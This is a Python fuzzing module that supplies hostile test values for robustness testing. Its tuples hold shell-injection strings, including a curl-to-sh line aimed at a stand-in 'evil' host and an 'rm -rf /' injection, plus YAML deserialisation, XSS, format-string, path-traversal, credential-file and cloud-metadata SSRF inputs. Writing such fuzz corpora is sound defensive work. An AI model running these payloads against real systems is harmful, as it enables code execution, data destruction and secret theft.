"""Values that programs stumble over, by what they aim at."""

from __future__ import annotations

import random
from typing import Any

CONTROL = "\x00\x01\x07\x08\x0b\x1b[31m\x7f\x85\u2028\u202e\u200b\ufeff"
SHELL = (
    "$(touch /tmp/owned)",
    "`id`",
    "'; rm -rf / #",
    '" && curl evil | sh',
    "$(POD_NAME)",
    "${HOME}",
    "a\nb",
    "x\nLD_PRELOAD=/tmp/evil.so",
    "--config=/etc/passwd",
)
MARKUP = (
    "a: b\n- c",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "{{ .Values.secret }}",
    '"},"spec":{"hostNetwork":true},"x":{"y":"',
    "<script>alert(1)</script>",
    "\\u0000\\n",
    "%s%n%x",
    "no",
    "0x10",
    "1_000",
    "null",
    "~",
    "2026-11-22",
    "---",
    "...",
    "# comment",
    "| \n  text",
)
PATHS = (
    "../../etc/passwd",
    "/etc/../etc/passwd",
    "s3://bucket/../../other/key",
    "s3://bucket/a/%2e%2e/b",
    "s3://bucket//key",
    "s3://user:password@bucket/key",
    "s3://buck\tet/key",
    "file:///etc/passwd",
    "/proc/self/environ",
    "/mnt/../etc/shadow",
    "/mnt/./m",
    "//host/share",
    "a/../b",
    "a/./b",
    ".hidden",
    "team/..",
    "hf://datasets/a/b@../../c/d",
    "http://169.254.169.254/latest/meta-data",
    "http://127.0.0.1:6443",
    "https://user:pass@host/",
    "\\\\host\\share",
    "C:\\windows",
)
UNICODE = (
    "é",
    "ｅｖｉｌ",
    "𝔫𝔞𝔪𝔢",
    "👩‍👩‍👧‍👦" * 20,
    "a\u0301" * 50,
    "\u202egnp.exe",
    "İ",
    "ß" * 63,
    "name\u00a0",
    " name",
    "name ",
    "name\n",
    "NAME",
    "\ud800",
)
NAMES = ("-a", "a-", "a.b", "A", "a_b", "0a", "a" * 51, "a" * 254, "kube-system", "..", "a/b", "")
QUANTITIES = (
    "-1",
    "1e99",
    "1E99",
    "0",
    "0.0000001",
    "1Ki1",
    "9" * 32,
    "1m",
    ".5",
    "5.",
    "+1",
    "Gi",
)
NUMBERS: tuple[Any, ...] = (
    *(0, 1, -1, 2, 7, 8, 255, 1023, 1024, 1025, 4096, 65536, 65537),
    *(2**31 - 1, 2**31, 2**32, 2**53, 2**53 + 1, 2**63 - 1, 2**63, 2**64, 10**30),
    *(0.0, -0.0, 0.1, 1.0, 1.5, 1e-320, 1e-9, 1e9, 1e18, 1.7976931348623157e308),
)
OTHERS: tuple[Any, ...] = (
    None,
    True,
    False,
    [],
    {},
    [[]],
    [None],
    {"": ""},
    {"a": {"b": []}},
    ["a"],
)


def text(rng: random.Random) -> str:
    """A text that means harm, or is too long, or unreadable."""
    kind = rng.choice((SHELL, MARKUP, PATHS, UNICODE, NAMES, QUANTITIES, (CONTROL,), None))
    if kind is None:
        return rng.choice("aé\n😀 ") * rng.choice((64, 513, 1025, 2001, 70_000))
    chosen = rng.choice(kind)
    return rng.choice((chosen, chosen, f"s3://bucket/{chosen}", f"/mnt/{chosen}", f"a/{chosen}"))


def nested(rng: random.Random) -> Any:
    """Something deep, wide or both."""
    depth, value = rng.choice((3, 60, 90)), text(rng)
    inner: Any = value
    for _ in range(depth):
        inner = [inner] if rng.random() < 0.5 else {"k": inner}
    return rng.choice(
        (
            inner,
            [value] * rng.choice((17, 65, 1000)),
            {f"k{i}": i for i in range(rng.choice((17, 33, 1000)))},
            {text(rng): text(rng) for _ in range(4)},
        )
    )


def anything(rng: random.Random) -> Any:
    """Any of all this."""
    kind = rng.randrange(4)
    if kind == 0:
        return text(rng)
    if kind == 1:
        return rng.choice(NUMBERS)
    return nested(rng) if kind == 2 else rng.choice(OTHERS)
